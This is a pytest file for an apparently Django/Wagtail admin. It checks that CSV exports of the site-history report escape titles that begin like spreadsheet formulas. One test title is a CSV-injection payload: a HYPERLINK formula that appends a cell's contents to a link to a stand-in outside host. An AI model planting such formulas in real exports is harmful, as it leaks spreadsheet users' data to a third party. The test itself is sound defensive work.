"""The admin's reports as tables for spreadsheets: what people typed is text there, and no formula."""

import csv

import pytest
from django.test import Client
from django.urls import reverse
from wagtail.log_actions import log

from people.models import Role
from repository.permissions import sync_all
from tests.factories import DistrictFactory, district_page, member, resource

pytestmark = pytest.mark.django_db


def test_a_title_that_begins_as_a_formula_does_is_text_in_the_report() -> None:
    district = DistrictFactory()
    district_page(district)
    admin = member(Role.STATE_ADMIN, district.parent)
    sync_all()
    titles = {'=HYPERLINK("https://elsewhere.example?"&A1,"Open")', "- a list", "-5", "Mix paint"}
    for title in titles:
        log(instance=resource(district=district, title=title), action="wagtail.edit", user=admin, title=title)
    client = Client()
    client.force_login(admin)
    answer = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert answer.status_code == 200
    rows = list(csv.reader(answer.getvalue().decode().splitlines()))
    cells = {cell.removeprefix("'") for row in rows for cell in row}
    assert titles <= cells
    assert {cell for row in rows for cell in row if cell[:1] in ("=", "-")} == {"-5"}
